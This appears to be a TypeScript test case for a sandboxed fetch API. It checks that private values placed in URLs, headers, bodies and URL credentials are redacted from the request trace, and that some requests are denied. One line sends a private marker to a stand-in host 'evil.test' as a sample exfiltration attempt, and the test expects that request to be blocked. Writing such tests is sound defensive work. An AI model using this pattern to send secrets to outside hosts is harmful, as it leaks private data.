import type { FetchAttack } from './fetch-attack.ts';

export default {
  name: 'what the trace must not hold',
  tries: 'To get what is private into the trace.',
  source: `const marks = 'pr1vate';
await ask(at('open.test', '/path?q=' + marks + '#' + marks), { method: 'POST', headers: { 'x-mark': marks }, body: marks });
await ask('http://' + marks + ':' + marks + '@open.test/');
await ask(at('evil.test', '/path?' + marks));
api.state.set('end', 1);`,
  expect: {
    returned: { end: 1 },
    fetches: [
      'POST open.test/path 200',
      'GET open.test/ http_fetch_denied',
      'GET evil.test/path http_fetch_denied',
    ],
  },
} satisfies FetchAttack;
